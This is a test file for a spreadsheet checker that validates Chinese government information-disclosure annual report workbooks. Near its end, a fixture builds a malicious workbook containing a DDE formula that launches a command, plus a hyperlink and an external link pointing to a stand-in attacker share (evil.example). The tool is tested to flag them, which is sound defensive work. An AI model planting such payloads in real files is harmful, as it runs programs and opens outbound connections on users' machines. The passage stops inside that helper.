"""`xltools check`: the mistakes of real published reports, each found at its cell."""
from __future__ import annotations

import hashlib
import json
import random
from decimal import Decimal

import openpyxl
from conftest import EXAMPLES, SAMPLE_COUNTY, WORKBOOKS, seed_report

from samples import sample_report
from xltools import Report, write
from xltools.model.schema import load_format
from xltools.rules.batch import check_paths

FMT = load_format()


def one(path):
    [result] = check_paths([path])
    return result


def brief(result) -> list[tuple]:
    return [(f.rule, f.cells[0] if f.cells else None, f.expected, f.actual) for f in result.findings]


def valid(seed: int = 1, **changes) -> Report:
    report = sample_report("示例镇人民政府", 2023, random.Random(seed))
    report.values.update(changes)
    return report


def test_examples_pass_with_no_findings(cli):
    """The sample county passes; the seed as published states no figures in 一（三） (T1)."""
    result = cli("check", str(EXAMPLES / "chitudian-2023.xlsx"), str(SAMPLE_COUNTY))
    assert result.exit_code == 0, result.output
    assert result.output.count("结果：通过，没有发现问题。\n评分：20/20\n") == 14
    assert "警告 T1 总体情况缺少要素 一、总体情况!A8\n" in result.output
    assert result.output.count("  警告 ") == 1
    assert result.output.endswith("共检查 15 个文件：15 个无错误，0 个有错误，0 个无法读取。\n")


def test_appeals_total_left_at_zero(tmp_path):
    """A 2023 district report: 行政复议 10 + 1 but 总计 0 (and 复议后起诉 5 but 0)."""
    report = valid(**{f"appeals.{g}.{m}": 0 for g in ("review", "suit_direct", "suit_after_review")
                      for m in ("upheld", "corrected", "other", "pending", "total")})
    report.values.update({"appeals.review.upheld": 10, "appeals.review.corrected": 1, "appeals.review.total": 0,
                          "appeals.suit_after_review.upheld": 5, "appeals.suit_after_review.total": 0})
    report.text["overview.requests"] = (f"本年度新收政府信息公开申请{report.values['requests.new.total']}件，"
                                        "无行政复议和行政诉讼情况。")
    write(report, tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert brief(result) == [("R4", "四、复议诉讼!E6", 11, 0), ("R4", "四、复议诉讼!O6", 5, 0)]
    assert result.findings[0].message() == (
        "四、复议诉讼!E6（行政复议 / 总计）应为 11（A6+B6+C6+D6 = 10+1+0+0），实际为 0。")
    assert result.findings[0].fields == ["appeals.review.total", "appeals.review.upheld", "appeals.review.corrected",
                                         "appeals.review.other", "appeals.review.pending"]
    assert result.findings[0].cells == ["四、复议诉讼!E6", "四、复议诉讼!A6", "四、复议诉讼!B6", "四、复议诉讼!C6",
                                        "四、复议诉讼!D6"]


def _chitudian() -> Report:
    return seed_report()


def test_result_rows_do_not_add_up_to_the_total(tmp_path):
    """A 2020 county report: the result rows add up to 27, （七）总计 says 21."""
    report = _chitudian()
    values = report.values
    values.update({"requests.new.natural_person": 20, "requests.new.total": 21, "requests.new.commercial": 1,
                   "requests.granted.natural_person": 7,
                   "requests.unavailable.not_held.natural_person": 13, "requests.unavailable.not_held.total": 13,
                   "requests.not_processed.repeated.natural_person": 6, "requests.not_processed.repeated.total": 6,
                   "requests.granted.commercial": 1, "requests.granted.total": 8,
                   "requests.results_total.natural_person": 20, "requests.results_total.commercial": 1,
                   "requests.results_total.total": 21})
    report.text["overview.requests"] = "全年共收到政府信息公开申请21件。"
    write(report, tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert brief(result) == [("R2", "三、依申请公开!D29", 26, 20), ("R2", "三、依申请公开!J29", 27, 21)]
    assert result.findings[1].message() == (
        "三、依申请公开!J29（三、本年度办理结果 / （七）总计 / 申请人情况 / 总计）"
        "应为 27（J8+J9+…+J28 = 27），实际为 21。")


def test_text_contradicts_the_table(tmp_path):
    report = _chitudian()
    report.text["overview.requests"] = "本年度共收到政府信息公开申请258件，办结258件。"
    report.values.update({"requests.new.natural_person": 275, "requests.new.total": 275,
                          "requests.granted.natural_person": 275, "requests.granted.total": 275,
                          "requests.results_total.natural_person": 275, "requests.results_total.total": 275})
    write(report, tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert brief(result) == [("W3", "三、依申请公开!J6", 275, 258)]
    assert result.findings[0].message() == (
        "正文“本年度共收到政府信息公开申请258件，办结258件。”写的是 258，而表格 三、依申请公开!J6"
        "（一、本年新收政府信息公开申请数量 / 申请人情况 / 总计）为 275。")
    assert result.findings[0].cells[-1] == "一、总体情况!A6"


def test_chinese_numerals_in_text(tmp_path):
    report = _chitudian()
    report.text["overview.requests"] = "收到政府信息公开申请一件，行政复议二件。"
    write(report, tmp_path / "r.xlsx")
    assert brief(one(tmp_path / "r.xlsx")) == [("W3", "四、复议诉讼!E6", 1, 2)]


def test_blanks_instead_of_zeros(tmp_path):
    report = _chitudian()
    for col in ("commercial", "research", "nonprofit", "legal_service", "other_org"):
        report.values[f"requests.carried_in.{col}"] = None
    report.values["proactive.regulation.repealed"] = "/"
    report.values["proactive.normative.repealed"] = "无"
    write(report, tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert brief(result) == [("W6", "二、主动公开!C5", 0, None), ("W6", "三、依申请公开!E7", 0, None)]  # one per table
    assert result.findings[1].cells == [f"三、依申请公开!{c}7" for c in "EFGHI"]
    assert result.findings[1].message() == "三、依申请公开有 5 个数值单元格为空（E7:I7），已按0处理。"
    assert result.findings[0].message() == "二、主动公开有 2 个数值单元格填写了“/、无”（C5:C6），已按0处理。"
    assert result.findings[0].message("en") == "二、主动公开: 2 number cell(s) holding \"/, 无\" (C5:C6), read as 0."
    assert result.ok


def test_what_clerks_type_is_understood(tmp_path):
    report = _chitudian()
    report.values.update({"requests.new.natural_person": " １ 件", "proactive.fee.amount": "0.5万元",
                          "proactive.penalty.decisions": "三", "proactive.coercion.decisions": -1,
                          "proactive.license.decisions": 2.5})
    write(report, tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert [(f.rule, f.case, f.cells[0], f.actual) for f in result.findings] == [
        ("R0", "fraction", "二、主动公开!B9", "2.5"),
        ("R0", "invalid", "二、主动公开!B12", "三"),
        ("R0", "negative", "二、主动公开!B13", "-1"),
        ("W0", "text", "二、主动公开!B16", Decimal("0.5")),
        ("W0", "text", "三、依申请公开!D6", 1),
    ]
    assert result.findings[1].message() == (
        "二、主动公开!B12（第二十条第（六）项 / 行政处罚 / 本年处理决定数量）填写的“三”不是数字。")


def test_2019_layout_rows_in_a_2021_workbook(tmp_path):
    """（六）其他处理 as one row: two rows deleted from 三 and the label changed."""
    write(_chitudian(), tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    ws = wb["三、依申请公开"]
    ws.unmerge_cells("B26:B28")
    ws.delete_rows(27, 2)
    ws["C26"] = None
    wb.save(tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert [(f.rule, f.case, f.cells) for f in result.findings] == [("S4", "changed", ["三、依申请公开!C26"])]
    assert result.findings[0].message() == (
        "三、依申请公开!C26 应为“1.申请人无正当理由逾期不补正、行政机关不再处理其政府信息公开申请”，"
        "实际为“”，本表数字未读取。")
    assert not result.ok


def test_inserted_row_is_found_and_no_number_is_read(tmp_path):
    write(_chitudian(), tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    wb["四、复议诉讼"].insert_rows(4)
    wb.save(tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert [(f.rule, f.case, f.cells, f.params["found"]) for f in result.findings] == [
        ("S4", "moved", ["四、复议诉讼!A4"], "A5")]
    assert result.findings[0].message() == (
        "“结果维持”应在 四、复议诉讼!A4，现在在 A5：表中插入或删除了行或列，本表数字未读取。")


def test_renamed_sheet_and_missing_cover(tmp_path):
    report = _chitudian()
    report.meta["unit"] = None
    write(report, tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    wb["二、主动公开"].title = "二、主动公开情况"
    wb.save(tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert [(f.rule, f.case, f.cells[:1]) for f in result.findings] == [
        ("S3", "missing", []), ("S5", "missing", ["封面!B3"])]
    assert result.findings[0].message() == "缺少工作表“二、主动公开”（被删除或改名），其中的内容未读取。"


def test_foreign_workbook(tmp_path):
    wb = openpyxl.Workbook()
    wb.active["A1"] = "单位"
    wb.save(tmp_path / "other.xlsx")
    result = one(tmp_path / "other.xlsx")
    assert [(f.rule, f.case) for f in result.findings] == [("S1", "sheets")]
    assert result.findings[0].message() == "这个文件不是标准模板：没有模板的工作表（Sheet），数字无法读取。"


def test_outdated_template_version(tmp_path):
    write(_chitudian(), tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    stamp = wb["_xltools"]
    stamp["B2"] = "0"
    from xltools.xlsx.layout import stamp_checksum
    values = {r[0].value: r[1].value for r in stamp.iter_rows()}
    stamp["B5"] = stamp_checksum(values)
    wb.save(tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert brief(result) == [("S2", None, "1", "0")]
    assert result.findings[0].message() == "文件使用第 0 版模板，当前为第 1 版，布局不同，无法可靠读取。"


def test_typed_over_totals(tmp_path):
    """Formulas typed over with numbers that no longer add up."""
    report = valid(3)
    report.values["requests.new.total"] += 2
    write(report, tmp_path / "r.xlsx")
    result = one(tmp_path / "r.xlsx")
    assert [(f.rule, f.cells[0]) for f in result.findings] == [
        ("R1", "三、依申请公开!J6"), ("R3", "三、依申请公开!J6"), ("W3", "三、依申请公开!J6")]


def test_last_year_carry_over(tmp_path, cli):
    last, this = valid(4), valid(5)
    last.meta |= {"year": 2022, "credit_code": this.meta["credit_code"]}  # the same unit, the year before
    write(last, tmp_path / "2022.xlsx")
    write(this, tmp_path / "2023.xlsx")
    result = cli("check", str(tmp_path / "2023.xlsx"), "--previous", str(tmp_path / "2022.xlsx"), "-f", "json")
    findings = json.loads(result.output)["files"][0]["findings"]
    expected_w1 = [c for c in ("natural_person", "commercial", "research", "nonprofit", "legal_service",
                               "other_org", "total")
                   if this.values[f"requests.carried_in.{c}"] != last.values[f"requests.carried_out.{c}"]]
    assert [f["fields"][0] for f in findings if f["rule"] == "W1"] == [f"requests.carried_in.{c}" for c in expected_w1]
    w2 = [f for f in findings if f["rule"] == "W2"]
    for f in w2:
        row = f["fields"][0].split(".")[1]
        assert f["expected"] == (last.values[f"proactive.{row}.in_force"] + this.values[f"proactive.{row}.issued"]
                                 - this.values[f"proactive.{row}.repealed"])
    assert result.exit_code == 0


def test_explained_warning_is_accepted(tmp_path, cli):
    report = _chitudian()
    report.text["problems"] = "无"
    report.explanations = [{"rule": "W4", "target": "五、问题及改进!A3", "text": "本年度确无问题"}]
    write(report, tmp_path / "r.xlsx")
    [result] = check_paths([tmp_path / "r.xlsx"])
    assert [(f.rule, f.explained, f.explanation) for f in result.findings] == [("W4", True, "本年度确无问题")]
    assert cli("check", str(tmp_path / "r.xlsx"), "--strict").exit_code == 0
    report.explanations = []
    write(report, tmp_path / "r.xlsx")
    assert cli("check", str(tmp_path / "r.xlsx")).exit_code == 0
    assert cli("check", str(tmp_path / "r.xlsx"), "--strict").exit_code == 1


def test_text_output_and_exit_status(tmp_path, cli):
    report = _chitudian()
    report.values["appeals.review.total"] = 0
    write(report, tmp_path / "r.xlsx")
    result = cli("check", str(tmp_path / "r.xlsx"))
    assert result.exit_code == 1
    assert result.output == (
        f"== {tmp_path / 'r.xlsx'}（栾川县赤土店镇人民政府，2023年） ==\n"
        "  [四、复议诉讼]\n"
        "  错误 R4 复议诉讼总计不符 四、复议诉讼!E6\n"
        "    四、复议诉讼!E6（行政复议 / 总计）应为 1（A6+B6+C6+D6 = 0+1+0+0），实际为 0。\n"
        "    修改：把 四、复议诉讼!E6 改为 1（或恢复公式：在该格输入 =SUM(A6:D6)，或运行 xltools fill），"
        "或核对各项数字。\n"
        "结果：1 个错误，0 个警告。\n"
        "评分：19/20（数据差错 −1：R4）\n")
    english = cli("check", str(tmp_path / "r.xlsx"), "--lang", "en")
    assert "  error R4 Appeals total does not add up 四、复议诉讼!E6\n" in english.output
    assert "Result: errors 1, warnings 0.\n" in english.output


def test_json_output_shape(tmp_path, cli):
    report = _chitudian()
    report.values["appeals.review.total"] = 0
    write(report, tmp_path / "r.xlsx")
    data = json.loads(cli("check", str(tmp_path / "r.xlsx"), "--format", "json").output)
    [file] = data["files"]
    assert {k: file[k] for k in ("unit", "year", "ok", "errors", "warnings")} == {
        "unit": "栾川县赤土店镇人民政府", "year": 2023, "ok": False, "errors": 1, "warnings": 0}
    [finding] = file["findings"]
    assert finding["rule"] == "R4" and finding["severity"] == "error"
    assert finding["fields"][0] == "appeals.review.total" and finding["cells"][0] == "四、复议诉讼!E6"
    assert (finding["expected"], finding["actual"]) == (1, 0)


def test_unreadable_file_exit_2_and_lock_files_skipped(tmp_path, cli):
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 truncated")
    (tmp_path / "~$open.xlsx").write_bytes(b"lock")
    result = cli("check", str(tmp_path))
    assert result.exit_code == 2
    assert f"{tmp_path / '~$open.xlsx'}：Excel 锁定文件" in result.output  # not checked, but listed
    assert "无法读取" in result.output and "Traceback" not in result.output


def test_annotated_copy_marks_cells_and_lists_findings(tmp_path, cli):
    report = _chitudian()
    report.values["appeals.review.total"] = 0
    report.text["problems"] = "无"
    write(report, tmp_path / "r.xlsx")
    before = hashlib.sha256((tmp_path / "r.xlsx").read_bytes()).hexdigest()
    result = cli("check", str(tmp_path / "r.xlsx"), "--annotate", str(tmp_path / "marked.xlsx"))
    assert result.exit_code == 1
    assert hashlib.sha256((tmp_path / "r.xlsx").read_bytes()).hexdigest() == before
    wb = openpyxl.load_workbook(tmp_path / "marked.xlsx")
    assert wb.sheetnames[0] == "检查结果"
    e6, a3 = wb["四、复议诉讼"]["E6"], wb["五、问题及改进"]["A3"]
    assert (e6.fill.fgColor.rgb[2:], e6.border.left.style) == ("FF7C80", "thick")  # red, a thick border
    assert "R4" in e6.comment.text
    assert (a3.fill.fgColor.rgb[2:], a3.border.left.style) == ("FFC000", "mediumDashed")  # orange, dashed
    sheet = wb["检查结果"]
    assert sheet["A1"].value.startswith(f"检查结果：{report.unit}（2023年）　检查时间：")
    assert sheet["A2"].value == "结果：1 个错误，1 个警告。"
    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=5)]
    assert [(r[1], r[2], r[3]) for r in rows] == [("R4", "错误", "四、复议诉讼!E6"),
                                                  ("W4", "警告", "五、问题及改进!A3")]
    assert rows[0][5] == ("把 四、复议诉讼!E6 改为 1（或恢复公式：在该格输入 =SUM(A6:D6)，或运行 xltools fill），"
                          "或核对各项数字。")
    assert sheet["D5"].hyperlink.location == "'四、复议诉讼'!E6"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize, sheet.print_title_rows) == (
        "landscape", 9, "$4:$4")
    assert wb["三、依申请公开"]["J6"].value == "=SUM(D6:I6)"  # the copy keeps its formulas


def test_libreoffice_saved_workbook_passes(tmp_path, soffice):
    report = valid(6)
    for f in FMT.totals():
        report.values[f.id] = None
    write(report, tmp_path / "u.xlsx")
    saved = soffice(tmp_path / "u.xlsx")
    result = one(saved)
    assert result.findings == [] and result.report.values == valid(6).values


def test_empty_template_says_what_is_missing():
    result = one(WORKBOOKS / "template.xlsx")
    rules = [f.rule for f in result.findings]
    assert rules[:2] == ["S5", "S5"] and set(rules) == {"S5", "W4", "W6"}
    assert not result.ok


def test_readme_explains_every_rule():
    from conftest import REPO

    from xltools.model.schema import load_rules

    readme = (REPO / "docs" / "rules.md").read_text(encoding="utf-8")
    for rule in load_rules().values():
        severity = {"error": "错误 error", "warning": "警告 warning", "fatal": "无法读取 fatal"}[rule.severity]
        assert (f"| {rule.id} | {severity} | {rule.title['zh']}：{rule.description['zh']} | "
                f"{rule.title['en']} |") in readme, rule.id


def test_readme_shows_real_check_output(monkeypatch, cli):
    from conftest import REPO

    monkeypatch.chdir(REPO)
    readme = (REPO / "docs" / "clerk.md").read_text(encoding="utf-8")
    shown = readme.split("$ xltools check workbooks/examples/mistakes-2023.xlsx\n", 1)[1].split("```", 1)[0]
    assert cli("check", "workbooks/examples/mistakes-2023.xlsx").output == shown


def test_credit_code_is_checked(tmp_path):
    report = _chitudian()
    report.meta["credit_code"] = "11410324MB1234567X"
    write(report, tmp_path / "r.xlsx")
    assert [(f.rule, f.cells[0]) for f in one(tmp_path / "r.xlsx").findings] == [("W7", "封面!B4")]
    report.meta["credit_code"] = "91350100M000100Y43"  # a well-formed code
    write(report, tmp_path / "r.xlsx")
    assert one(tmp_path / "r.xlsx").findings == []


# --- advice a clerk can follow (issue 24, defect 9) -----------------------------------

def _totals_broken(path, source=None, keep_vba=False):
    """A workbook whose 三 row total J6 was typed over and whose 四 total E6 was deleted."""
    wb = openpyxl.load_workbook(source or path, keep_vba=keep_vba)
    wb["三、依申请公开"]["J6"] = 999
    wb["四、复议诉讼"]["A6"], wb["四、复议诉讼"]["E6"] = 3, None
    wb.save(path)
    return path


def _desk_note(path) -> str:
    """The desk's return note for the file, drafted from its findings as the ledger keeps them."""
    from datetime import date
    from types import SimpleNamespace

    from xltools.desk.checking import check_file, findings
    from xltools.desk.note import draft

    version = SimpleNamespace(at="2024-01-15T09:12:00+08:00", number=1)
    return draft("示例镇", 2023, version, findings(check_file(str(path))), date(2024, 1, 20))


def _advice_everywhere(cli, path, tmp_path) -> list[str]:
    """The fixes of R3 at J6 and R4 at E6 as check's text and JSON, the marked copy and the desk's note say them."""
    text = cli("check", str(path)).output
    data = json.loads(cli("check", str(path), "--format", "json").output)
    marked = tmp_path / f"{path.stem}.marked.xlsx"
    cli("check", str(path), "--annotate", str(marked))
    rows = [[c.value for c in r] for r in openpyxl.load_workbook(marked)["检查结果"].iter_rows(min_row=5)]
    note = _desk_note(path)
    out = []
    for rule, cell in (("R3", "三、依申请公开!J6"), ("R4", "四、复议诉讼!E6")):
        [fix] = [f["fix"] for f in data["files"][0]["findings"] if (f["rule"], f["cells"][:1]) == (rule, [cell])]
        assert f"    修改：{fix}\n" in text
        assert [r[5] for r in rows if (r[1], r[3]) == (rule, cell)] == [fix]
        assert f"修改方法：{fix}" in note
        out.append(fix)
    return out


def test_a_totals_fix_names_its_formula_and_fill_in_every_output(tmp_path, cli):
    """A plain .xlsx has no button 填写合计: the advice names the formula of the cell and xltools fill."""
    write(_chitudian(), tmp_path / "r.xlsx")
    path = _totals_broken(tmp_path / "r.xlsx")
    new = _chitudian().values["requests.new.total"]
    assert _advice_everywhere(cli, path, tmp_path) == [
        f"把 三、依申请公开!J6 改为 {new}（或恢复公式：在该格输入 =SUM(D6:I6)，或运行 xltools fill），或核对各项数字。",
        "把 四、复议诉讼!E6 改为 4（或恢复公式：在该格输入 =SUM(A6:D6)，或运行 xltools fill），或核对各项数字。"]
    assert "填写合计" not in cli("check", str(path)).output
    english = json.loads(cli("check", str(path), "--format", "json", "--lang", "en").output)["files"][0]["findings"]
    assert [f["fix"] for f in english if f["rule"] == "R4"] == [
        "Set 四、复议诉讼!E6 to 4 (or restore its formula: type =SUM(A6:D6) in it, or run xltools fill), "
        "or check the parts."]


def test_the_button_is_named_only_in_the_macro_workbook_that_has_it(tmp_path, cli):
    assert cli("excel-setup", "-o", str(tmp_path / "t.xlsm")).exit_code == 0
    made = _totals_broken(tmp_path / "u.xlsm", tmp_path / "t.xlsm", keep_vba=True)
    fixes = _advice_everywhere(cli, made, tmp_path)
    assert fixes[1] == ("把 四、复议诉讼!E6 改为 3（或恢复公式：在该格输入 =SUM(A6:D6)，或点“填写合计”按钮，"
                        "或运行 xltools fill），或核对各项数字。")
    assert all("点“填写合计”按钮" in fix for fix in fixes)
    # the same workbook without its macros, named .xlsm: no button, none named
    write(_chitudian(), tmp_path / "r.xlsx")
    plain = _totals_broken(tmp_path / "r.xlsx")
    (tmp_path / "renamed.xlsm").write_bytes(plain.read_bytes())
    assert not any("填写合计" in fix for fix in _advice_everywhere(cli, tmp_path / "renamed.xlsm", tmp_path))


def test_an_invalid_value_in_a_total_says_how_to_restore_its_formula(tmp_path):
    write(_chitudian(), tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    wb["三、依申请公开"]["J6"] = "见附表"
    wb.save(tmp_path / "r.xlsx")
    [r0] = [f for f in one(tmp_path / "r.xlsx").findings if f.rule == "R0"]
    assert r0.fix() == ("件数填不小于0的整数，金额填不小于0的数（最多6位小数），没有的填0；三、依申请公开!J6 是合计，"
                        "请恢复公式：在该格输入 =SUM(D6:I6)，或运行 xltools fill。")
    write(_chitudian(), tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    wb["三、依申请公开"]["D6"] = "见附表"  # not a total: the advice as before
    wb.save(tmp_path / "r.xlsx")
    [r0] = [f for f in one(tmp_path / "r.xlsx").findings if f.rule == "R0"]
    assert r0.fix() == "件数填不小于0的整数，金额填不小于0的数（最多6位小数），没有的填0。"


# --- blank zeros do not bury the errors (issue 24, defect 10) ---------------------------

def _zeros_left_blank(path):
    """A township that leaves every zero blank, with one total typed wrong."""
    report = valid(3)
    for f in FMT.numeric_fields():
        if f.kind != "total" and report.values[f.id] == 0:
            report.values[f.id] = None
    report.values["appeals.review.total"] = 7
    write(report, path)
    return path


def test_blank_zeros_are_one_warning_per_table_below_the_errors(tmp_path, cli):
    path = _zeros_left_blank(tmp_path / "r.xlsx")
    result = one(path)
    w6 = [f for f in result.findings if f.rule == "W6"]
    assert [(f.sheet, len(f.cells)) for f in w6] == [("二、主动公开", 1), ("三、依申请公开", 105), ("四、复议诉讼", 8),
                                                     ("六、其他事项", 3)]
    assert w6[1].message() == ("三、依申请公开有 105 个数值单元格为空（I7、E8:I9、D10:I10、D11:F11、H11:I11、E12 等），"
                               "已按0处理。")
    assert w6[2].message() == "四、复议诉讼有 8 个数值单元格为空（B6:C6、H6:I6、K6:N6），已按0处理。"
    # errors first, in the text, the JSON, the marked copy and the desk's note
    levels = [f.severity for f in result.findings]
    assert levels == sorted(levels, key=["error", "warning"].index) and levels[0] == "error"
    text = cli("check", str(path)).output.splitlines()
    assert text[1:3] == ["  [四、复议诉讼]", "  错误 R4 复议诉讼总计不符 四、复议诉讼!E6"]
    assert sum(" W6 " in line for line in text) == 4
    assert text[-1] == "评分：14/20（数据差错 −2：R4、W3；其他警告未说明 −4：W6×4）"
    data = json.loads(cli("check", str(path), "--format", "json").output)["files"][0]["findings"]
    assert [f["rule"] for f in data] == [f.rule for f in result.findings]
    cli("check", str(path), "--annotate", str(tmp_path / "marked.xlsx"))
    wb = openpyxl.load_workbook(tmp_path / "marked.xlsx")
    rows = [[c.value for c in r] for r in wb["检查结果"].iter_rows(min_row=5)]
    assert [r[1] for r in rows] == [f.rule for f in result.findings]
    orange = [c for row in wb["三、依申请公开"].iter_rows() for c in row
              if c.fill.fgColor.rgb and c.fill.fgColor.rgb[2:] == "FFC000"]
    assert {f"三、依申请公开!{c.coordinate}" for c in orange} == set(w6[1].cells)  # every blank cell marked
    note = _desk_note(path).splitlines()
    assert note[2].startswith("一、必须改正的错误（1 处）") and note[4].startswith("二、请核实的问题（5 处")


def test_a_run_of_check_kept_as_data_reads_back_as_the_same_results():
    """check's results have one shape as data (FileResult.to_data, Results.to_data): read
    back, they are said exactly as check says them, in text and JSON, in either language."""
    from xltools.commands.render import render_json, render_text
    from xltools.desk.ledger import dumps, loads
    from xltools.rules.result import Results

    results = check_paths([EXAMPLES / "mistakes-2023.xlsx", EXAMPLES / "chitudian-2023.xlsx"])
    back = Results.from_data(loads(dumps(results.to_data())))  # through JSON, as the desk keeps it
    assert back.to_data() == results.to_data()
    for lang in ("zh", "en"):
        assert render_text(back, lang) == render_text(results, lang)
        assert render_json(back, lang) == render_json(results, lang)
    assert [r.score.points for r in back] == [6, 10]  # each copies the other's text (T5)
    assert "vector" not in json.dumps(results.to_data(), default=str)  # the run's scratch is not the result


def test_an_outcome_the_desk_stored_before_the_result_model_reads_back():
    """The desk's ledger holds outcomes that checking.outcome wrote before results had
    to_data(): tests/data/desk-outcome-mistakes-2023.json is one, as the ledger's text
    keeps it. It reads back as the result check gives today, findings, counts and score."""
    from conftest import DATA

    from xltools.commands.render import result_dict
    from xltools.desk.checking import findings, outcome
    from xltools.desk.ledger import loads
    from xltools.rules.result import FileResult

    stored = loads((DATA / "desk-outcome-mistakes-2023.json").read_text(encoding="utf-8"))
    back = FileResult.from_data(stored, EXAMPLES / "mistakes-2023.xlsx")
    checked = one(EXAMPLES / "mistakes-2023.xlsx")
    assert outcome(back) == stored == outcome(checked)
    assert (back.unit, back.year, back.code, len(back.errors), len(back.warnings)) == \
        ("示例县错误示范镇人民政府", 2023, "", 1, 5)
    assert [f.message("en") for f in findings(stored)] == [f.message("en") for f in checked.findings]
    assert result_dict(back, "en") == result_dict(checked, "en")


def test_english_counts_one_thing_in_the_singular_and_uses_ascii_brackets(tmp_path, cli):
    """English says "1 total formula", "1 error", "2023 (2)"; Chinese stays as it was."""
    import shutil

    from xltools import read

    def said(*args):
        return cli(*args).output

    out = said("--lang", "en", "fill", EXAMPLES / "mistakes-2023.xlsx", "-o", tmp_path / "f.xlsx")
    assert "  restored 1 total formula typed over with the same number" in out.splitlines()
    assert "  2 blank cells set to 0" in out.splitlines()
    out = said("fill", EXAMPLES / "mistakes-2023.xlsx", "-o", tmp_path / "g.xlsx")
    assert "  恢复了 1 个被数字覆盖的合计公式（数值不变）" in out.splitlines()
    folder = tmp_path / "one"
    folder.mkdir()
    shutil.copy(EXAMPLES / "chitudian-2023.xlsx", folder)
    (folder / "readme.txt").write_text("hi", encoding="utf-8")
    out = said("--lang", "en", "check", folder)
    assert out.splitlines()[-1] == "2 files: 1 checked, 1 without errors, 0 with errors, 0 unreadable; 1 skipped " \
        "(see above)."
    tie = tmp_path / "tie"
    tie.mkdir()
    for i, path in enumerate(sorted(SAMPLE_COUNTY.glob("*.xlsx"))[:4]):
        report = read(path)
        report.meta["year"] = 2023 if i % 2 else 2024
        write(report, tie / path.name)
    out = said("--lang", "en", "merge", tie, "-o", tmp_path / "s.xlsx", "--unit", "县")
    assert out == "xltools: The inputs report different years, equally often: 2024 (2), 2023 (2); say which with " \
        "--year\n"


def test_formulas_that_run_programs_or_reach_other_files_are_findings(tmp_path):
    # issue 26 (3): a DDE formula, a HYPERLINK to a share and an external link part gave 0 findings
    result = one(_formulas_and_links(tmp_path / "示例.xlsx"))
    said = [(f.rule, f.severity, f.message()) for f in result.findings if f.rule in ("S6", "W11")]
    assert said == [
        ("S6", "error", "工作簿含有指向外部文件的链接“file://///evil.example/share/x.xlsx”，"
                        "打开时 Excel 会尝试连接它。"),
        ("S6", "error", "封面!C3 含有引用其他文件或网络位置的公式（如 封面!C3："
                        "“=HYPERLINK(\"file://///evil.example/share/doc\",\"点击查看\")”）。"),
        ("S6", "error", "一、总体情况!A4 含有 DDE 公式（如 一、总体情况!A4：“=cmd|' /C calc'!A0”），"
                        "打开文件时可能启动其他程序。"),
        ("W11", "warning", "二、主动公开!B6 应直接填写数值或文字，实际含有公式（如 二、主动公开!B6：“=1-1”）。"),
    ]


def _formulas_and_links(path):
    """The seed's workbook with a DDE formula in 一、总体情况!A4 (its cached value the
    text it replaced), a HYPERLINK to a share on 封面, a formula in an input cell and
    an external link part: what a review of the desk smuggled through."""
    import re
    import zipfile

    source = EXAMPLES / "chitudian-2023.xlsx"
    with zipfile.ZipFile(source) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    overview = parts["xl/worksheets/sheet2.xml"].decode()
    cached = re.search(r'<c r="A4" s="6" t="inlineStr"><is><t>(.*?)</t></is></c>', overview)
    parts["xl/worksheets/sheet2.xml"] = overview.replace(
        cached.group(0), f'<c r="A4" s="6" t="str"><f>cmd|\' /C calc\'!A0</f><v>{cached.group(1)}</v></c>').encode()
    cover = parts["xl/worksheets/sheet1.xml"].decode()
    row3 = cover.index("</row>", cover.index('<c r="B3"'))
    parts["xl/worksheets/sheet1.xml"] = (cover[:row3] + '<c r="C3" t="str"><f>HYPERLINK("file://///evil.example/'
                                         'share/doc","点击查看")</f><v>点击查看</v></c>' + cover[row3:]).encode()
    proactive = parts["xl/worksheets/sheet3.xml"].decode()
    typed = re.search(r'<c r="B6" ([^>]*)t="n"><v>0</v></c>', proactive)
    parts["xl/worksheets/sheet3.xml"] = proactive.replace(typed.group(0), f'<c r="B6" {typed.group(1)}><f>1-1</f>'
                                                          '<v>0</v></c>').encode()
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>')
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        b'Target="file://///evil.example/share/x.xlsx" TargetMode="External"/></Relationships>')
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</sheets>", (
        b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships" r:id="rId99"/></externalReferences>'))
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", (
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" '
        b'Target="externalLinks/externalLink1.xml" Id="rId99"/></Relationships>'))
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", (
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'))
